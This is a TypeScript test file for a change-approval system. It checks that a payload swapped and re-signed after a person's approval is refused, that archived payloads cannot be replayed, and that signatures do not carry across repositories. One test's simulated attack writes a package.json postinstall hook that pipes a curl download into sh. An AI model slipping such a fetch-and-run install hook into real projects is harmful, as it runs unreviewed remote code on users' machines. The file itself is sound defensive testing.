import { describe, expect, test } from "bun:test";
import { copyFileSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { approveChange, summarize, summaryMarkdown } from "../../lib/governance/index.ts";
import { applyChange, makeFileChange, signPayload } from "../../lib/patch/index.ts";
import { submitChanges } from "../../lib/runtime/index.ts";
import type { ChangeRequest } from "../../lib/schema/index.ts";
import { readSecret, repositoryId } from "../../lib/store/index.ts";
import { repoWith, thrown } from "./_repo.ts";

const MANIFEST = '{"scripts":{"test":"bun test"}}\n';

describe("approvals hold for the payload a person reviewed", () => {
  test("a payload swapped and re-signed after approve is refused, and summary does not call it approved", async () => {
    await using r = await repoWith({ "package.json": MANIFEST });
    const cr: ChangeRequest = {
      id: "cr-risky",
      task_id: "adhoc",
      summary: "add a lint script",
      changes: [makeFileChange("package.json", MANIFEST, '{"scripts":{"test":"bun test","lint":"biome"}}\n')],
    };
    const { enqueued } = submitChanges(r.repo, r.queue, [cr]);
    expect(enqueued[0]!.status).toBe("awaiting_approval");
    approveChange(r.repo.db, r.queue, "cr-risky", "alice", "reviewed");
    expect(summaryMarkdown(summarize(r.repo.db, r.queue, "cr-risky"))).toContain("approved by alice");

    // The attacker swaps in a postinstall hook and re-signs it for this very repository and id.
    const evil = JSON.stringify({
      ...cr,
      changes: [makeFileChange("package.json", MANIFEST, '{"scripts":{"postinstall":"curl x | sh"}}\n')],
    });
    const signature = signPayload(r.secret, {
      repository: repositoryId(r.repo.db),
      id: "cr-risky",
      payload: evil,
    });
    r.repo.db.run(
      "UPDATE change_payloads SET payload = ?, signature = ? WHERE payload_id = (SELECT payload_id FROM change_queue WHERE id = 'cr-risky')",
      [evil, signature],
    );
    const leased = r.queue.lease("w")!;
    expect(leased.payload).toBe(evil);
    expect(thrown(() => r.apply(leased)).code).toBe("E_APPROVAL_STALE");
    expect(readFileSync(join(r.dir, "package.json"), "utf8")).toBe(MANIFEST);

    const text = summaryMarkdown(summarize(r.repo.db, r.queue, "cr-risky"));
    expect(text).not.toContain("approved by alice");
    expect(text).toContain("NOT approved");
  });

  test("the payload a person approved applies", async () => {
    await using r = await repoWith({ "package.json": MANIFEST });
    const after = '{"scripts":{"test":"bun test","lint":"biome"}}\n';
    submitChanges(r.repo, r.queue, [
      { id: "cr-ok", task_id: "adhoc", changes: [makeFileChange("package.json", MANIFEST, after)] },
    ]);
    approveChange(r.repo.db, r.queue, "cr-ok", "alice", null);
    r.apply(r.queue.lease("w")!);
    expect(readFileSync(join(r.dir, "package.json"), "utf8")).toBe(after);
  });
});

describe("signed payloads never apply twice, nor in another repository", () => {
  test("a payload re-inserted after its change was archived is refused as a replay", async () => {
    await using r = await repoWith({ "a.txt": "one\n" });
    submitChanges(r.repo, r.queue, [
      { id: "cr-a", task_id: "adhoc", changes: [makeFileChange("a.txt", "one\n", "two\n")] },
    ]);
    const leased = r.queue.lease("w")!;
    const row = { id: leased.id, payload: leased.payload, signature: leased.signature };
    r.apply(row);
    r.queue.complete(leased.id, leased.token);
    expect(r.queue.archive({ olderThanMs: -1 }).moved).toBe(1);
    // Archival took the journal with it: nothing in the live tables remembers the change.
    expect(r.repo.db.query("SELECT COUNT(*) AS n FROM apply_journal").get()).toEqual({ n: 0 });
    expect(r.queue.get("cr-a")).toBeNull();

    writeFileSync(join(r.dir, "a.txt"), "one\n"); // a person reverts by hand
    expect(thrown(() => r.apply(row)).code).toBe("E_REPLAYED");
    expect(readFileSync(join(r.dir, "a.txt"), "utf8")).toBe("one\n");
  });

  test("a payload signed in one repository does not verify in another that shares the key", async () => {
    await using a = await repoWith({ "a.txt": "one\n" });
    await using b = await repoWith({ "a.txt": "one\n" });
    copyFileSync(a.repo.loc.secret, b.repo.loc.secret);
    const secretB = readSecret(b.repo.loc);
    expect(Buffer.from(secretB).equals(Buffer.from(a.secret))).toBe(true);
    submitChanges(a.repo, a.queue, [
      { id: "cr-x", task_id: "adhoc", changes: [makeFileChange("a.txt", "one\n", "pwned\n")] },
    ]);
    const leased = a.queue.lease("w")!;
    const e = thrown(() =>
      applyChange({
        repo: b.dir,
        db: b.repo.db,
        secret: secretB,
        change: { id: leased.id, payload: leased.payload, signature: leased.signature },
      }),
    );
    expect(e.code).toBe("E_SIGNATURE");
    expect(readFileSync(join(b.dir, "a.txt"), "utf8")).toBe("one\n");
  });
});
